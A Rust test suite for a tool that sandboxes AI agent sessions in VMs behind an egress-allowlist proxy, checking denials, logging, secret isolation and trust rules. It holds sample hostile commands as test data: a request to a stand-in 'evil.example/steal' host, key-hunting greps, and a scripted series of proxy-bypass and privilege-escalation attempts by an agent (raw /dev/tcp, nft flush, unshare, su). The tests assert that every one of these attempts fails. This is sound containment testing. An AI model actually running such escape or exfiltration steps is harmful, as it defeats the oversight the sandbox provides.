//! The session's network (issue 12): from inside a session's guest, requests through the
//! host proxy to an allowed endpoint, to names not allowed, to names that resolve to the
//! host's loopback; the Anthropic route with the key kept on the host; the log, its summary
//! line and `network log`; the policy from flags, files and trust.

use std::io::{Read, Write};
use std::net::TcpListener;

use serde_json::Value;

use crate::messages_api::MessagesApi;
use crate::support::*;

/// An HTTP server on the host's loopback answering every request with `body`.
fn host_service(body: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = write!(
                s,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// Runs `script` with sh in a fresh session (`shell -- sh -c`), with claude-vm's `flags`.
fn in_guest(w: &World, flags: &[&str], script: &str) -> Run {
    let mut args: Vec<&str> = flags.to_vec();
    args.extend(["shell", "--", "sh", "-c", script]);
    w.run(&args)
}

/// The real curl (the simulator's tools shadow it under /usr/local/bin), quiet, 10 s at most.
const CURL: &str = "/usr/bin/curl -s --max-time 10";

fn vm_of(r: &Run) -> String {
    r.call("delete")
        .iter()
        .find(|a| a.starts_with("claude-vm-") && a.contains(".run-") && !a.contains('/'))
        .cloned()
        .unwrap_or_else(|| panic!("the clone's name in {:?}", r.calls))
}

/// A name of this machine that its resolver maps to a loopback or private address.
fn local_name() -> String {
    let name = std::fs::read_to_string("/proc/sys/kernel/hostname")
        .expect("hostname")
        .trim()
        .to_owned();
    let addrs: Vec<std::net::IpAddr> =
        std::net::ToSocketAddrs::to_socket_addrs(&(name.as_str(), 80))
            .map(|a| a.map(|s| s.ip()).collect())
            .unwrap_or_default();
    assert!(
        !addrs.is_empty()
            && addrs.iter().all(|a| match a {
                std::net::IpAddr::V4(v4) => v4.is_loopback() || v4.is_private(),
                std::net::IpAddr::V6(v6) => v6.is_loopback(),
            }),
        "this test needs the host name {name} to resolve to a loopback or private address (it does to {addrs:?})"
    );
    name
}

#[test]
#[cfg_attr(
    not(target_os = "linux"),
    ignore = "needs the simulator's Linux namespaces"
)]
fn guest_requests_are_allowed_denied_and_logged_per_host() {
    let w = World::new();
    w.setup();
    let port = host_service("hello from the host");
    let local = local_name();
    // The user's own file opens the host service: no trust needed.
    std::fs::write(
        w.home.join(".claude-vm.toml"),
        format!("[network]\nhost_ports = [{port}]\n"),
    )
    .unwrap();
    // One line per request: the bodies are two lines each.
    let script = format!(
        "{CURL} http://host.lima.internal:{port}/ok | tr '\\n' ' '; echo; \
         {CURL} http://evil.example/steal | tr '\\n' ' '; echo; \
         {CURL} -o /dev/null -w 'connect=%{{http_connect}}' https://evil.example/; echo; \
         {CURL} http://{local}:{port}/ | tr '\\n' ' '; echo; \
         {CURL} http://host.lima.internal:1/ | tr '\\n' ' '; echo"
    );
    let r = in_guest(&w, &[], &script);
    r.ok();
    assert_eq!(r.verbs(), ["clone", "shell", "delete"], "{:?}", r.calls);
    let out: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(out[0].trim(), "hello from the host", "{}", r.stdout);
    assert!(
        out[1].contains("not in allow") && out[1].contains("add it to [network] allow"),
        "the 403 names the rule and the fix: {}",
        r.stdout
    );
    assert_eq!(out[2], "connect=403", "{}", r.stdout);
    assert!(
        out[3].contains("(not in allow)"),
        "a name not allowed is refused before it is resolved: {}",
        r.stdout
    );
    assert!(
        out[4].contains("host_ports"),
        "a host port not listed is refused: {}",
        r.stdout
    );
    let vm = vm_of(&r);
    let summary = format!(
        "network: 4 requests denied (evil.example, {local}, host.lima.internal) — claude-vm network log {vm} shows them"
    );
    assert!(r.stderr.contains(&summary), "{}", r.stderr);

    // The log: one line per request, and the per-host view.
    let log = w.run(&["network", "log", &vm]);
    log.ok();
    let row = |host: &str| {
        log.stdout
            .lines()
            .find(|l| l.starts_with(&format!("{host} ")))
            .unwrap_or_else(|| panic!("no row for {host}:\n{}", log.stdout))
            .to_owned()
    };
    let evil = row("evil.example");
    let cells: Vec<&str> = evil.split_whitespace().collect();
    assert_eq!(&cells[1..3], ["2", "denied"], "{}", log.stdout);
    assert!(row("evil.example").contains("not in allow"));
    assert!(
        row("host.lima.internal").contains("1 allowed, 1 denied"),
        "{}",
        log.stdout
    );
    let json = w.run(&["--json", "network", "log", &vm]);
    json.ok();
    let doc: Value = serde_json::from_str(&json.stdout).expect("one JSON document");
    let requests = doc["requests"].as_array().expect("requests");
    assert_eq!(requests.len(), 5, "{doc:#}");
    let denied: Vec<&Value> = requests
        .iter()
        .filter(|r| r["decision"] == "denied")
        .collect();
    assert_eq!(denied.len(), 4);
    for r in requests {
        assert_eq!(r["session"], vm.as_str());
        for key in [
            "time",
            "method",
            "host",
            "port",
            "rule",
            "bytes_up",
            "bytes_down",
            "duration_ms",
        ] {
            assert!(!r[key].is_null(), "{key} missing in {r}");
        }
    }
    let allowed = requests
        .iter()
        .find(|r| r["decision"] == "allowed")
        .unwrap();
    assert_eq!(allowed["port"], port);
    assert!(allowed["bytes_down"].as_u64().unwrap() > 0);
    // Every session's log, when no session is named.
    let all = w.run(&["network", "log"]);
    all.ok();
    assert!(all.stdout.contains("evil.example"), "{}", all.stdout);

    // A name that resolves to the host (DNS rebinding's trick) is refused at its address
    // even where every name passes; only an exact entry for it opens it.
    let get = format!("{CURL} http://{local}:{port}/ | tr '\\n' ' '");
    let r = in_guest(&w, &["--network", "open"], &get);
    r.ok();
    assert!(
        r.stdout.contains("loopback address") || r.stdout.contains("private address"),
        "open: the address is checked: {}",
        r.stdout
    );
    let exact = format!("{local}:{port}");
    let r = in_guest(&w, &["--allow", &exact], &get);
    r.ok();
    assert_eq!(r.stdout.trim(), "hello from the host", "{}", r.stdout);
}

#[test]
#[cfg_attr(
    not(target_os = "linux"),
    ignore = "needs the simulator's Linux namespaces"
)]
fn the_key_stays_on_the_host_and_the_api_receives_it() {
    let mut w = World::new();
    w.setup();
    let api = MessagesApi::start("hi");
    const KEY: &str = "sk-ant-REAL-never-in-the-vm-7f3a";
    w.set_env("ANTHROPIC_API_KEY", KEY).set_env(
        "ANTHROPIC_BASE_URL",
        &format!("http://127.0.0.1:{}", api.port),
    );
    // The key in two halves: the script itself is a guest file (session.sh).
    let (k1, k2) = KEY.split_at(10);
    let script = format!(
        "env; echo ---; \
         k1={k1}; grep -rs -l \"${{k1}}{k2}\" /mnt/claude-vm \"$HOME\" /etc /tmp; echo ---; \
         {CURL} -H \"x-api-key: $ANTHROPIC_API_KEY\" -H 'content-type: application/json' \
           -d '{{\"model\":\"m\",\"max_tokens\":5,\"messages\":[{{\"role\":\"user\",\"content\":\"hello\"}}]}}' \
           \"$ANTHROPIC_BASE_URL/v1/messages\"; echo"
    );
    for flags in [&[][..], &["--network", "offline"]] {
        let r = in_guest(&w, flags, &script);
        r.ok();
        let parts: Vec<&str> = r.stdout.split("---\n").collect();
        assert_eq!(parts.len(), 3, "{}", r.stdout);
        assert!(
            !parts[0].contains(KEY),
            "the key is in the guest's env: {}",
            parts[0]
        );
        assert!(
            parts[0].contains("ANTHROPIC_API_KEY=claude-vm-placeholder-"),
            "{}",
            parts[0]
        );
        assert!(
            parts[0].contains("ANTHROPIC_BASE_URL=http://host.lima.internal:"),
            "{}",
            parts[0]
        );
        assert_eq!(
            parts[1].trim(),
            "",
            "the key is in guest files: {}",
            parts[1]
        );
        assert!(
            parts[2].contains("\"type\":\"message\""),
            "{flags:?}: {}",
            r.stdout
        );
        let got = api.messages_requests();
        let last = got.last().expect("the API got the request");
        assert_eq!(last.headers["x-api-key"], KEY, "the real key upstream");
        for call in w.logged() {
            assert!(
                !call.iter().any(|a| a.contains(KEY)),
                "key on argv: {call:?}"
            );
        }
    }
    // Offline: nothing but the route.
    let r = in_guest(
        &w,
        &["--network", "offline", "--allow", "evil.example"],
        &format!("{CURL} http://evil.example/; echo"),
    );
    r.ok();
    assert!(r.stdout.contains("policy offline"), "{}", r.stdout);
    // Open: today's behaviour, still through the proxy.
    let r = in_guest(&w, &["--network", "open"], "env");
    r.ok();
    assert!(
        r.stdout.contains(&format!("ANTHROPIC_API_KEY={KEY}")),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("HTTPS_PROXY=http://claude-vm:"),
        "{}",
        r.stdout
    );
}

#[test]
fn a_project_file_that_loosens_the_network_needs_trust() {
    let w = World::new();
    w.setup();
    for (text, why) in [
        (
            "[network]\npolicy = \"open\"\n",
            "network.policy = \"open\"",
        ),
        ("[network]\nallow = [\"evil.example\"]\n", "evil.example"),
        ("[network]\nhost_ports = [5432]\n", "5432"),
    ] {
        w.write_project(".claude-vm.toml", text);
        let r = w.run(&["shell", "--", "true"]);
        assert_eq!(r.code, 2, "{text}: {}", r.stderr);
        assert!(r.stderr.contains(why), "{text}: {}", r.stderr);
        assert!(r.stderr.contains("claude-vm trust"), "{}", r.stderr);
        assert!(
            !r.verbs().contains(&"clone"),
            "nothing started: {:?}",
            r.calls
        );
        let v = w.run(&["config", "validate"]);
        assert!(
            format!("{}{}", v.stdout, v.stderr).contains(why),
            "validate reports it: {}{}",
            v.stdout,
            v.stderr
        );
    }
    // Tightening needs no approval; an approved loosening runs under its policy.
    w.write_project(
        ".claude-vm.toml",
        "[network]\npolicy = \"offline\"\ndeny = [\"evil.example\"]\n",
    );
    let r = w.run(&["--json", "shell", "--", "true"]);
    r.ok();
    assert!(r.stderr.contains("\"policy\":\"offline\""), "{}", r.stderr);
    w.write_project(".claude-vm.toml", "[network]\npolicy = \"open\"\n");
    w.run(&["trust"]).ok();
    let r = w.run(&["--json", "shell", "--", "true"]);
    r.ok();
    let started: Vec<Value> = r
        .stderr
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|e| e["type"] == "session.started")
        .collect();
    assert_eq!(started.len(), 1, "{}", r.stderr);
    assert_eq!(started[0]["policy"], "open");
}

#[test]
fn bad_network_settings_name_the_file_or_flag_and_the_fix() {
    let w = World::new();
    for (text, key, fix) in [
        (
            "[network]\nallow = [\"https://x.example/a\"]\n",
            "network.allow[0]",
            "x.example",
        ),
        (
            "[network]\nallow = [\"x.example/a\"]\n",
            "network.allow[0]",
            "path",
        ),
        (
            "[network]\ndeny = [\"ok.example\", \"*\"]\n",
            "network.deny[1]",
            "would allow every host",
        ),
        (
            "[network]\npolicy = \"closed\"\n",
            "network.policy",
            "offline",
        ),
        (
            "[network]\nhost_ports = [0]\n",
            "network.host_ports[0]",
            "65535",
        ),
    ] {
        w.write_project(".claude-vm.toml", text);
        let r = w.run(&["shell", "--", "true"]);
        assert_eq!(r.code, 2, "{text}: {}", r.stderr);
        assert!(
            r.stderr.contains(".claude-vm.toml"),
            "names the file: {}",
            r.stderr
        );
        assert!(r.stderr.contains(key), "names {key}: {}", r.stderr);
        assert!(r.stderr.contains(fix), "{fix}: {}", r.stderr);
        assert!(r.calls.is_empty(), "nothing ran: {:?}", r.calls);
    }
    std::fs::remove_file(w.project.join(".claude-vm.toml")).unwrap();
    for (flags, want) in [
        (&["--network", "closed"][..], "--network"),
        (&["--allow", "*"], "--allow"),
        (&["--allow", "http://x.example"], "--allow"),
    ] {
        let mut args = flags.to_vec();
        args.extend(["shell", "--", "true"]);
        let r = w.run(&args);
        assert_eq!(r.code, 2, "{flags:?}: {}", r.stderr);
        assert!(r.stderr.contains(want), "{}", r.stderr);
        assert!(r.calls.is_empty(), "{:?}", r.calls);
    }
}

#[test]
fn dry_run_and_config_show_tell_the_policy_and_each_preset_origin() {
    let w = World::new();
    w.write_project(
        ".claude-vm.toml",
        "[tools]\nnode = true\n[network]\ndeny = [\"x.example\"]\n",
    );
    let r = w.run(&["--dry-run", "shell"]);
    r.ok();
    assert!(
        r.stdout.contains("network policy: allowlist"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("allow api.anthropic.com") && r.stdout.contains("(preset: claude code)"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("deny x.example"), "{}", r.stdout);
    let r = w.run(&["--dry-run", "--network", "offline", "shell"]);
    assert!(r.stdout.contains("network policy: offline"), "{}", r.stdout);
    let show = w.run(&["config", "show"]);
    show.ok();
    let line = |host: &str| {
        show.stdout
            .lines()
            .find(|l| l.contains(&format!("\"{host}\"")))
            .unwrap_or_else(|| panic!("{host} not shown:\n{}", show.stdout))
            .to_owned()
    };
    assert!(
        show.stdout.contains("network.policy = \"allowlist\""),
        "{}",
        show.stdout
    );
    assert!(line("api.anthropic.com").contains("# preset: claude code"));
    assert!(line("registry.npmjs.org").contains("# preset: tool node"));
    assert!(line("deb.debian.org").contains("# preset: setup: apt"));
    assert!(
        line("x.example").contains("project file"),
        "{}",
        show.stdout
    );
}

#[test]
#[cfg_attr(
    not(target_os = "linux"),
    ignore = "needs the simulator's Linux namespaces"
)]
fn the_denied_requests_are_events_and_the_session_says_its_policy() {
    let w = World::new();
    w.setup();
    let r = in_guest(
        &w,
        &["--json"],
        &format!("{CURL} http://evil.example/a; {CURL} http://evil.example/b; true"),
    );
    r.ok();
    let events: Vec<Value> = r
        .stderr
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap_or_else(|_| panic!("not JSON: {l}")))
        .collect();
    let started = events
        .iter()
        .find(|e| e["type"] == "session.started")
        .unwrap();
    assert_eq!(started["policy"], "allowlist");
    let denied: Vec<&Value> = events
        .iter()
        .filter(|e| e["type"] == "network.denied")
        .collect();
    assert_eq!(denied.len(), 2, "{}", r.stderr);
    for d in denied {
        assert_eq!(d["host"], "evil.example");
        assert_eq!(d["port"], 80);
        assert_eq!(d["rule"], "not in allow");
    }
}

#[test]
fn info_and_list_say_which_policy_a_session_runs_under() {
    let w = World::new();
    w.write_project(".claude-vm.toml", "[tools]\nnode = true\n");
    let info = w.run(&["info"]);
    info.ok();
    assert!(
        info.stdout.contains("network:      allowlist"),
        "{}",
        info.stdout
    );
    assert!(
        info.stdout
            .contains("allow registry.npmjs.org (preset: tool node)"),
        "{}",
        info.stdout
    );
    w.setup();
    let mut s = w.spawn(&["--network", "offline", "shell", "--", "sleep", "60"]);
    w.background.lock().expect("background").push(s.child.id());
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let session = loop {
        let r = w.run(&["--json", "list"]);
        r.ok();
        let doc: Value = serde_json::from_str(&r.stdout).expect("one JSON document");
        let found = doc["sessions"]
            .as_array()
            .and_then(|a| a.iter().find(|s| s["role"] == "run").cloned());
        if let Some(found) = found {
            break found;
        }
        assert!(std::time::Instant::now() < deadline, "no session listed");
        std::thread::sleep(std::time::Duration::from_millis(200));
    };
    assert_eq!(session["policy"], "offline", "{session}");
    s.signal(libc::SIGTERM);
    assert_eq!(s.finish(), 143);
    w.background.lock().expect("background").clear();
    w.assert_nothing_left("after the listed session");
}

/// What an agent that ignores the proxy tries, from inside a real session as the guest user:
/// the in-guest rules and the privilege drop (script::enforce) stop each attempt, while the
/// proxy, a listed host port and the runtime script's sudo keep working.
#[test]
#[cfg_attr(
    not(target_os = "linux"),
    ignore = "needs the simulator's Linux namespaces"
)]
fn a_session_cannot_get_around_the_proxy_or_get_root() {
    let w = World::new();
    w.setup();
    let listed = host_service("listed");
    let secret = host_service("a host service nobody listed");
    std::fs::write(
        w.home.join(".claude-vm.toml"),
        format!("[network]\nhost_ports = [{listed}]\n"),
    )
    .unwrap();
    // Runtime scripts keep sudo, and through sudo the proxy (apt is told of it too).
    let runtime = w.write(
        "home/runtime.sh",
        &format!(
            "sudo -n true && echo runtime-sudo-ok\n\
             echo \"sudo-curl=$(sudo -n {CURL} http://host.lima.internal:{listed}/)\"\n\
             grep -q 'Acquire::https::Proxy \"http://' /etc/apt/apt.conf.d/99claude-vm-session-proxy && echo apt-proxied\n"
        ),
    );
    let tcp = |port: u16| {
        format!(
            "if timeout 5 bash -c 'exec 3<>/dev/tcp/192.168.5.2/{port}' 2>/dev/null; then echo open; else echo closed; fi"
        )
    };
    let in_guest_fails = |what: &str, cmd: &str| {
        format!(
            "if {cmd} >/dev/null 2>&1; then echo '{what}: worked'; else echo '{what}: refused'; fi"
        )
    };
    let script = [
        format!("{CURL} http://host.lima.internal:{listed}/; echo"),
        format!("{CURL} --noproxy '*' http://host.lima.internal:{secret}/ || echo bypass-refused"),
        tcp(secret),
        tcp(listed),
        in_guest_fails(
            "dns to the slirp resolver",
            "timeout 5 getent hosts example.com",
        ),
        in_guest_fails(
            "udp 53",
            "timeout 5 bash -c 'exec 3<>/dev/udp/1.1.1.1/53 && printf x >&3'",
        ),
        in_guest_fails("ipv6", "timeout 5 bash -c 'exec 3<>/dev/tcp/::1/22'"),
        in_guest_fails("sudo", "sudo -n true"),
        in_guest_fails("nft flush", "nft flush ruleset"),
        in_guest_fails("unshare -n", "unshare -n true"),
        in_guest_fails("su", "su -c true root </dev/null"),
        "grep NoNewPrivs /proc/self/status".to_owned(),
    ]
    .join("\n");
    let r = w.run(&[
        "shell",
        "--runtime-script",
        runtime.to_str().expect("utf-8"),
        "--",
        "bash",
        "-c",
        &script,
    ]);
    r.ok();
    assert_eq!(r.verbs(), ["clone", "shell", "delete"], "{:?}", r.calls);
    let out: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        out,
        [
            "runtime-sudo-ok",
            "sudo-curl=listed",
            "apt-proxied",
            "listed",
            "bypass-refused",
            "closed",
            "open",
            "dns to the slirp resolver: refused",
            "udp 53: refused",
            "ipv6: refused",
            "sudo: refused",
            "nft flush: refused",
            "unshare -n: refused",
            "su: refused",
            "NoNewPrivs:\t1",
        ],
        "{}{}",
        r.stdout,
        r.stderr
    );
    // `--network open` keeps today's guest: nothing installed, sudo kept.
    let r = w.run(&[
        "--network",
        "open",
        "shell",
        "--",
        "bash",
        "-c",
        &tcp(secret),
    ]);
    r.ok();
    assert_eq!(r.stdout.trim(), "open", "{}", r.stderr);
}

/// Setup behind the proxy: a setup script's requests go through it under setup's list (a
/// host port listed in the user's config is reachable, an unlisted host gets the 403, a
/// connection around the proxy fails), they are logged under `setup-<template>`, and the
/// template keeps neither the build's proxy settings nor its token; the fingerprint does not
/// depend on the build's port or token.
#[test]
#[cfg_attr(
    not(target_os = "linux"),
    ignore = "needs the simulator's Linux namespaces"
)]
fn setup_runs_behind_the_proxy_and_the_template_keeps_nothing_of_it() {
    let w = World::new();
    let listed = host_service("hello from the host");
    let secret = host_service("a host service nobody listed");
    std::fs::write(
        w.home.join(".claude-vm.toml"),
        format!("[network]\nhost_ports = [{listed}]\n"),
    )
    .unwrap();
    let script = format!(
        "echo \"build-proxy=$HTTPS_PROXY\"\n\
         echo \"listed=$({CURL} http://host.lima.internal:{listed}/)\"\n\
         echo \"sudo-listed=$(sudo -n {CURL} http://host.lima.internal:{listed}/)\"\n\
         echo \"unlisted=$({CURL} -o /dev/null -w '%{{http_code}}' http://evil.example/x)\"\n\
         echo \"unlisted-tls=$({CURL} -o /dev/null -w '%{{http_connect}}' https://evil.example/)\"\n\
         if {CURL} --max-time 5 --noproxy '*' http://host.lima.internal:{secret}/ >/dev/null; then echo around=open; else echo around=refused; fi\n\
         ls /etc/apt/apt.conf.d/ | grep claude-vm\n"
    );
    std::fs::write(w.home.join(".claude-vm.setup.sh"), &script).unwrap();
    let r = w.setup();
    let t = w.templates().pop().expect("a template");
    let log = std::fs::read_to_string(w.data_dir().join(format!("logs/{t}.setup.log")))
        .expect("the build's log");
    let field = |name: &str| {
        log.lines()
            .find_map(|l| l.strip_prefix(&format!("{name}=")))
            .unwrap_or_else(|| panic!("no {name}= in the build's log:\n{log}"))
            .to_owned()
    };
    assert_eq!(field("listed"), "hello from the host", "{log}");
    assert_eq!(
        field("sudo-listed"),
        "hello from the host",
        "sudo keeps the proxy: {log}"
    );
    assert_eq!(field("unlisted"), "403", "{log}");
    assert_eq!(field("unlisted-tls"), "403", "{log}");
    assert_eq!(field("around"), "refused", "the in-guest rules: {log}");
    assert!(
        log.contains("99claude-vm-build-proxy"),
        "apt is configured during the build: {log}"
    );
    let proxy = field("build-proxy");
    let token = proxy
        .strip_prefix("http://claude-vm:")
        .and_then(|rest| rest.split_once('@'))
        .map(|(token, _)| token.to_owned())
        .unwrap_or_else(|| panic!("the build's proxy URL: {proxy}"));
    assert!(token.len() >= 32, "{token}");
    let session = format!("setup-{t}");
    assert!(
        r.stderr.contains(&format!(
            "network: 2 requests denied (evil.example) — claude-vm network log {session} shows them"
        )),
        "{}",
        r.stderr
    );
    let json = w.run(&["--json", "network", "log", &session]);
    json.ok();
    let doc: Value = serde_json::from_str(&json.stdout).expect("one JSON document");
    let requests = doc["requests"].as_array().expect("requests");
    let allowed: Vec<&Value> = requests
        .iter()
        .filter(|r| r["decision"] == "allowed")
        .collect();
    assert_eq!(allowed.len(), 2, "{doc:#}");
    assert!(allowed
        .iter()
        .all(|r| r["host"] == "host.lima.internal" && r["port"] == listed));
    let denied: Vec<&Value> = requests
        .iter()
        .filter(|r| r["decision"] == "denied")
        .collect();
    assert_eq!(denied.len(), 2, "{doc:#}");
    assert!(denied.iter().all(|r| r["host"] == "evil.example"));

    // Nothing of the build's network is left in the template: a session of it has its own.
    let (t1, t2) = token.split_at(8);
    let check = format!(
        "ls /etc/apt/apt.conf.d /etc/sudoers.d; echo ---; \
         t1={t1}; grep -rs -l \"${{t1}}{t2}\" /etc \"$HOME\" /usr/local /var/lib /opt; echo ---; \
         env | grep -c \"${{t1}}{t2}\"; true"
    );
    let s = in_guest(&w, &["--network", "open"], &check);
    s.ok();
    let parts: Vec<&str> = s.stdout.split("---\n").collect();
    assert_eq!(parts.len(), 3, "{}", s.stdout);
    assert!(
        !parts[0].contains("claude-vm-build-proxy"),
        "stale proxy settings: {}",
        parts[0]
    );
    assert_eq!(
        parts[1].trim(),
        "",
        "the build's token is in the template: {}",
        parts[1]
    );
    assert_eq!(parts[2].trim(), "0", "{}", s.stdout);

    // A second build: another port and token, the same fingerprint.
    let fingerprint = || -> Value {
        let text = std::fs::read_to_string(w.data_dir().join(format!("templates/{t}.json")))
            .expect("manifest");
        let doc: Value = serde_json::from_str(&text).expect("manifest JSON");
        doc["fingerprint"].clone()
    };
    let first = fingerprint();
    assert!(first["digest"].is_string(), "{first}");
    w.setup();
    let again = std::fs::read_to_string(w.data_dir().join(format!("logs/{t}.setup.log")))
        .expect("the build's log");
    assert!(
        !again.contains(&token),
        "each build has its own token: {again}"
    );
    assert_eq!(
        fingerprint(),
        first,
        "the build's port and token are not in it"
    );
    let r = w.run(&["shell", "--", "true"]);
    r.ok();
    assert!(!r.stderr.contains("out of date"), "{}", r.stderr);
}

/// `policy = "open"` keeps today's build: no proxy, the whole network.
#[test]
#[cfg_attr(
    not(target_os = "linux"),
    ignore = "needs the simulator's Linux namespaces"
)]
fn an_open_policy_builds_with_the_whole_network() {
    let w = World::new();
    let secret = host_service("reached directly");
    std::fs::write(
        w.home.join(".claude-vm.toml"),
        "[network]\npolicy = \"open\"\n",
    )
    .unwrap();
    std::fs::write(
        w.home.join(".claude-vm.setup.sh"),
        format!("echo \"proxy=${{HTTPS_PROXY:-none}}\"\necho \"direct=$({CURL} http://host.lima.internal:{secret}/)\"\n"),
    )
    .unwrap();
    w.setup();
    let t = w.templates().pop().expect("a template");
    let log = std::fs::read_to_string(w.data_dir().join(format!("logs/{t}.setup.log")))
        .expect("the build's log");
    assert!(log.contains("proxy=none"), "{log}");
    assert!(log.contains("direct=reached directly"), "{log}");
    let dry = w.run(&["--dry-run", "setup"]);
    dry.ok();
    assert!(dry.stdout.contains("build network: open"), "{}", dry.stdout);
}

#[test]
fn setup_dry_run_shows_the_build_list_with_origins() {
    let w = World::new();
    w.write_project(".claude-vm.toml", "[tools]\nrust = true\n");
    let r = w.run(&["--dry-run", "setup"]);
    r.ok();
    assert!(
        r.stdout.contains("build network: setup's list"),
        "{}",
        r.stdout
    );
    for (host, origin) in [
        ("deb.debian.org", "(preset: setup: apt (Debian's mirrors))"),
        ("sh.rustup.rs", "(preset: setup: tool rust)"),
        ("api.anthropic.com", "(preset: claude code)"),
    ] {
        assert!(
            r.stdout
                .lines()
                .any(|l| l.contains(host) && l.contains(origin)),
            "{host} {origin}: {}",
            r.stdout
        );
    }
    assert!(!r.stdout.contains("build-network.sh"), "{}", r.stdout);
}

/// One log line as the proxy writes it.
fn record(session: &str, host: &str) -> String {
    serde_json::json!({
        "time": "2026-12-02T04:00:00.000Z", "session": session, "method": "GET",
        "host": host, "port": 80, "address": null, "decision": "denied",
        "rule": "not in allow", "bytes_up": 0, "bytes_down": 0, "duration_ms": 1,
    })
    .to_string()
        + "\n"
}

fn append(path: &std::path::Path, text: &str) {
    let mut f = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .expect("open the log");
    f.write_all(text.as_bytes()).expect("append");
}

/// `network log --follow` prints lines appended while it runs (to files there before it
/// started and to new sessions' files; a line still being written once it is whole), not
/// what was there before, escapes what the guest chose, and ends by itself on SIGINT or
/// SIGTERM with 128 + the signal.
#[test]
fn network_log_follow_prints_new_lines_and_ends_on_a_signal() {
    use std::os::unix::process::ExitStatusExt;
    let w = World::new();
    let dir = w.data_dir().join("network");
    std::fs::create_dir_all(&dir).unwrap();
    for (n, (sig, want, only)) in [
        (libc::SIGINT, 130, None),
        (libc::SIGTERM, 143, Some("s-new-1")),
    ]
    .into_iter()
    .enumerate()
    {
        let old = dir.join(format!("s-old-{n}.jsonl"));
        append(&old, &record(&format!("s-old-{n}"), "before.example"));
        let mut args = vec!["network", "log"];
        args.extend(only);
        args.push("--follow");
        let mut s = w.spawn(&args);
        w.background.lock().expect("background").push(s.child.id());
        s.await_stderr("following ");
        let new = dir.join(format!("s-new-{n}.jsonl"));
        append(&old, &record(&format!("s-old-{n}"), "appended.example"));
        append(
            &new,
            &format!(
                "{}{}",
                record(&format!("s-new-{n}"), "evil\u{1b}[2J.example"),
                &record(&format!("s-new-{n}"), "partial.example")[..40]
            ),
        );
        s.await_stdout("2J.example");
        assert!(!s.stdout().contains('\u{1b}'), "escaped: {:?}", s.stdout());
        append(
            &new,
            &record(&format!("s-new-{n}"), "partial.example")[40..],
        );
        s.await_stdout("partial.example");
        if only.is_none() {
            s.await_stdout("appended.example");
        }
        s.signal(sig);
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        let status = loop {
            if let Some(st) = s.child.try_wait().expect("wait") {
                break st;
            }
            assert!(std::time::Instant::now() < deadline, "--follow did not end");
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        w.background.lock().expect("background").clear();
        assert_eq!(
            status.signal(),
            None,
            "killed rather than ended: {status:?}"
        );
        assert_eq!(status.code(), Some(want), "{}", s.stderr());
        let out = s.stdout();
        assert!(!out.contains("before.example"), "{out}");
        assert_eq!(
            out.contains("appended.example"),
            only.is_none(),
            "a named session's lines only: {out}"
        );
        assert!(
            out.lines().any(|l| l.ends_with(&format!(
                "s-new-{n} GET partial.example:80 denied not in allow"
            ))),
            "{out}"
        );
        assert_eq!(
            out.matches("partial.example").count(),
            1,
            "once, when whole: {out}"
        );
    }
}
